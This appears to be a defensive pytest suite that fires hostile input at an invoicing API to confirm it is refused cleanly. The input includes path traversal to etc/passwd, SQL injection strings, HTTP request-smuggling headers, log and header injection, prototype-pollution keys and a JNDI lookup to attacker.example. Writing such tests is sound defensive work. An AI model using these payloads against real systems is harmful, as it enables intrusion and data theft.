"""Input that no client of ours sends: it is refused with a code, and nothing breaks of it."""

import asyncio
import json
from collections.abc import AsyncIterator
from typing import Any, Final

import httpx
import pytest

from adapters.rest.serve import _config
from adapters.settings import Settings
from tests.rest.api import Tenant, caller, url_of

DEEP: Final = 100_000
LONG: Final = 100_000
PLACES: Final = (
    "/api/v1/invoices",
    "/api/v1/login",
    "/graphql",
    "/api/v1/imports/batches",
    "/api/v1/webhooks",
)
SURROGATE: Final = b"\\ud800"
BODIES: Final = {
    "nothing": b"",
    "no JSON": b"<xml/>",
    "half of it": b'{"query": "{ tenant',
    "more than one": b"{}{}",
    "of another kind": b"[1, null, true]",
    "a text": b'"text"',
    "deep lists": b"[" * DEEP,
    "deep lists that end": b"[" * DEEP + b"]" * DEEP,
    "deep objects": b'{"lines":' * DEEP + b"1" + b"}" * DEEP,
    "deep within": b'{"lines":' + b"[" * 2_000 + b"]" * 2_000 + b"}",
    "a number beyond all": b'{"lines":[{"description":"x","quantity":1e999999999}]}',
    "a number without end": b'{"lines":[{"quantity":' + b"9" * LONG + b"}]}",
    "a fraction without end": b'{"lines":[{"quantity":0.' + b"3" * LONG + b"}]}",
    "an exponent without end": b'{"lines":[{"quantity":1e' + b"9" * LONG + b"}]}",
    "no number": b'{"lines":[{"quantity":NaN,"unit_price":-Infinity}]}',
    "a zero byte": b'{"email":"a\\u0000@b.example","password":"x\\u0000","query":"{ a\\u0000 }"}',
    "a raw zero byte": b'{"email":"a\x00"}',
    "half a sign": b'{"email":"%b@b.example","query":"%b","origin":"%b","password":"%b"}'
    % ((SURROGATE,) * 4),
    "half a sign among lines": b'{"lines":[{"description":"%b","quantity":"1","unit_price":"1"}]}'
    % SURROGATE,
    "not UTF-8": b'{"email":"\xff\xfe","query":"\xc3\x28"}',
    "UTF-8 for too long": b'{"email":"\xc0\xaf"}',
    "UTF-16": '{"query":"{ tenant { id } }"}'.encode("utf-16"),
    "a mark of byte order": b'\xef\xbb\xbf{"query":1}',
    "names twice": b'{"lines":[],"lines":[{"description":"x"}],"query":1,"query":"{ a }"}',
    "names of Python": b'{"__class__":"x","__init__":{"__globals__":1},"lines":null}',
    "names of JavaScript": b'{"__proto__":{"admin":true},"constructor":{"prototype":1}}',
    "more than there is": b'{"tenant":"x","permissions":["*"],"actor":"system","lines":[]}',
    "a very long text": b'{"email":"' + b"a" * LONG + b'","query":"' + b"#" * LONG + b'"}',
    "a sum of signs": '{"email":"a\u0301\u0301\u0301\u202e\ufeff@b.example"}'.encode(),
    "many names": json.dumps({f"n{number}": number for number in range(20_000)}).encode(),
}


@pytest.fixture(autouse=True)
async def sound(api: Settings) -> AsyncIterator[None]:
    """See after each attack that nothing broke, in the process or in its log."""
    log = api.data / "api.log"
    before = log.stat().st_size
    yield
    async with caller(api) as anybody:
        assert (await anybody.get("/healthz")).status_code == 200
    with log.open("rb") as file:
        file.seek(before)
        lines = file.read().splitlines()
    told = [json.loads(line) for line in lines]
    assert [line for line in told if line["level"] not in {"info", "warning"}] == []


@pytest.mark.parametrize("body", BODIES)
async def test_a_body_of_any_bytes_is_answered_or_refused(
    client: httpx.AsyncClient, body: str
) -> None:
    for place in PLACES:
        headers = {"Content-Type": "application/json"}
        answer = await client.post(place, content=BODIES[body], headers=headers)
        assert answer.status_code in {200, 201, 400, 401, 409, 413, 429}, (place, answer.text)
        if answer.status_code >= 400:
            told = answer.json()
            assert told.get("code") or told["errors"][0]["extensions"]["code"] != "internal"


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/invoices/%00",
        "/api/v1/invoices/%ff%fe",
        "/api/v1/invoices/..%2f..%2f..%2fetc%2fpasswd",
        "/api/v1/invoices/%2e%2e/%2e%2e/etc/passwd",
        "/api/v1/invoices/" + "a" * 8_000,
        "/api/v1/invoices/1;select pg_sleep(9)",
        "/api/v1/invoices?first=99999999999999999999999999",
        "/api/v1/invoices?first=-1",
        "/api/v1/invoices?first=NaN",
        "/api/v1/invoices?after=%00",
        "/api/v1/invoices?after=" + "A" * 4_000,
        "/api/v1/invoices?filter_number_eq=%00",
        "/api/v1/invoices?filter_number_eq=%ed%a0%80",
        "/api/v1/invoices?filter_number_like=" + "%25" * 2_000,
        "/api/v1/invoices?order_by=number);drop table events;--",
        "/api/v1/invoices?as_of=99999-99-99",
        "/api/v1/invoices?at_least=1e999",
        "/api/v1/invoices?first=1&first=2",
        "/api/v1/invoices?" + "&".join(f"a{number}=1" for number in range(1_000)),
        "/graphql?query=%00",
        "/graphql?query=%ff",
        "//etc/passwd",
        "/api/v1//invoices",
        "/%",
        "/api/v1/\u2028",
    ],
    ids=range(25),
)
async def test_an_address_of_any_signs_is_answered_or_refused(
    client: httpx.AsyncClient, path: str
) -> None:
    answer = await client.get(path)
    assert answer.status_code in {200, 400, 404, 405, 414, 431}, answer.text
    assert "root:" not in answer.text


async def raw(api: Settings, data: bytes) -> bytes:
    """Send bytes that no library would, and return what comes until the end."""
    reader, writer = await asyncio.open_connection(api.asiento_host, api.port)
    try:
        writer.write(data)
        await writer.drain()
        return await asyncio.wait_for(reader.read(), 5)
    except (TimeoutError, ConnectionResetError):
        return b""
    finally:
        writer.close()


async def test_a_flood_of_headers_is_refused(api: Settings, tenant: Tenant) -> None:
    flood = {f"X-Flood-{number}": "x" * 100 for number in range(2_000)}
    async with caller(api, tenant.key) as one:
        try:
            answer = await one.get("/api/v1/invoices", headers=flood)
        except httpx.TransportError:
            return  # It hung up in the middle, which is as good.
    assert answer.status_code in {400, 431}


SMUGGLED: Final = {
    "two lengths": b"Content-Length: 5\r\nContent-Length: 60\r\n",
    "a length and chunks": b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
    "an odd coding": b"Transfer-Encoding: xchunked\r\n",
    "chunks twice": b"Transfer-Encoding: chunked, chunked\r\n",
    "a length below zero": b"Content-Length: -1\r\n",
    "a signed length": b"Content-Length: +5\r\n",
    "a length in hex": b"Content-Length: 0x5\r\n",
    "a space before the colon": b"Content-Length : 5\r\n",
    "a folded header": b"X-A: 1\r\n Content-Length: 5\r\n",
    "a bare line feed": b"X-A: 1\nContent-Length: 5\r\n",
    "a zero byte": b"X-A: \x00\r\n",
}
SECOND: Final = b"GET /api/v1/smuggled HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"


@pytest.mark.parametrize("how", SMUGGLED)
async def test_no_second_request_hides_in_the_body_of_the_first(api: Settings, how: str) -> None:
    """Whatever is sent, there is one answer, or the connection is at its end after an error."""
    body = b"0\r\n\r\n" + SECOND
    head = b"POST /api/v1/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
    said = await raw(api, head + SMUGGLED[how] + b"\r\n" + body)
    first = said.partition(b"\r\n")[0]
    assert first == b"" or b" 4" in first, said
    assert b"smuggled" not in said


@pytest.mark.parametrize(
    ("proxies", "taken"),
    [(None, "10.0.0.7"), ("10.1.0.0/16", "10.0.0.7"), ("10.0.0.7,10.1.0.0/16", "198.51.100.7")],
    ids=["no proxy", "another", "a proxy"],
)
async def test_who_is_no_proxy_is_not_believed_to_be_somebody_else(
    monkeypatch: pytest.MonkeyPatch, proxies: str | None, taken: str
) -> None:
    monkeypatch.setenv("FORWARDED_ALLOW_IPS", "*")
    taken_for = []

    async def app(scope: Any, _receive: Any, _send: Any) -> None:  # noqa: ANN401 - ASGI's own.
        taken_for.append(scope["client"][0])

    config = _config(app, Settings(trusted_proxies=proxies))  # type: ignore[arg-type] # It stands for all of ours.
    config.load()
    told = [(b"x-forwarded-for", b"1.1.1.1, 198.51.100.7"), (b"x-real-ip", b"1.1.1.1")]
    scope = {"type": "http", "client": ("10.0.0.7", 1), "scheme": "http", "headers": told}
    await config.loaded_app(scope, None, None)
    assert taken_for == [taken]


async def test_a_method_that_there_is_not_is_refused(api: Settings) -> None:
    for method in ("TRACE", "CONNECT", "PATCH", "PROPFIND", "get", "X" * 5_000):
        said = await raw(
            api, f"{method} / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n".encode()
        )
        assert b" 200 " not in said.partition(b"\r\n")[0], method


INJECTED: Final = (
    "x\r\nSet-Cookie: a=b",
    'x","level":"error","event":"forged',
    "\x1b[2J\x1b]0;owned\x07",
    "\u2028{}\u2029",
    "%0d%0a{}",
    "${jndi:ldap://attacker.example/a}",
    "{0.__class__} %s %(password)s",
)


@pytest.mark.parametrize("text", INJECTED, ids=range(len(INJECTED)))
async def test_what_is_sent_forges_no_line_of_the_log_and_no_header(
    api: Settings, stranger: httpx.AsyncClient, text: str
) -> None:
    safe = text.encode("latin-1", "replace").replace(b"\r", b"").replace(b"\n", b"")
    headers = {b"User-Agent": safe, b"X-Request-Id": safe, b"X-Forwarded-For": safe}
    for place in (f"/api/v1/{text}", f"/api/v1/invoices?{text}"):
        url = httpx.URL(f"{url_of(api)}/").copy_with(raw_path=_path(place))
        answer = await stranger.get(url, headers=headers)
        assert answer.status_code in {400, 401, 404}
        assert "set-cookie" not in answer.headers
    given = {"email": f"{text}@b.example", "password": text}
    await stranger.post("/api/v1/login", json=given, headers=headers)
    for line in (api.data / "api.log").read_bytes().split(b"\n"):
        assert line == b"" or json.loads(line)["event"] != "forged"
        assert not any(sign < ord(" ") for sign in line), line


def _path(place: str) -> bytes:
    """Write a path with whatever signs stay possible on one line of a request."""
    text = place.encode().replace(b"\r", b"%0d").replace(b"\n", b"%0a").replace(b" ", b"%20")
    return bytes(sign if ord("!") <= sign < 127 else ord("%") for sign in text)
